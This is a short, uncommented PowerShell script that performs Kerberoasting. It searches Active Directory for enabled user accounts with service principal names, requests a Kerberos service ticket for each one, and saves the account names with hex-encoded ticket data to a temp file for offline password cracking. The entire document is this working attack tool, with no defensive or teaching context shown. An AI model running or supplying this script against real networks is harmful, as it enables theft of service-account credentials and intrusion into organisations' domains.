Add-Type -AssemblyName System.IdentityModel
$searcher = [adsisearcher]'(&(objectCategory=user)(servicePrincipalName=*)(!userAccountControl:1.2.840.113556.1.4.803:=2))'
$searcher.PageSize = 500
$out = foreach ($r in $searcher.FindAll()) {
    $spn = $r.Properties['serviceprincipalname'][0]
    $ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn
    $raw = $ticket.GetRequest()
    $hex = [System.BitConverter]::ToString($raw) -replace '-'
    '{0}:{1}' -f $r.Properties['samaccountname'][0], $hex
}
$out | Set-Content -Path "$env:TEMP\spn.txt"
